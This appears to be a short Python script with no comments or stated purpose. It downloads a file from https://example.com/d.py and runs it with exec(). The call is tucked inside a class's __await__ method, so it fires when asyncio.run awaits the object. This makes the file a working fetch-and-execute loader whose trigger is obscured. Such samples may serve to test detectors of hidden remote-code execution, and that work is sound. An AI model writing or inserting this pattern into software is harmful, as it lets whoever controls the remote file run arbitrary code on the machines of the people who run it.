import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


import asyncio


class A:
    def __await__(self):
        _go()
        yield


async def main():
    await A()


asyncio.run(main())
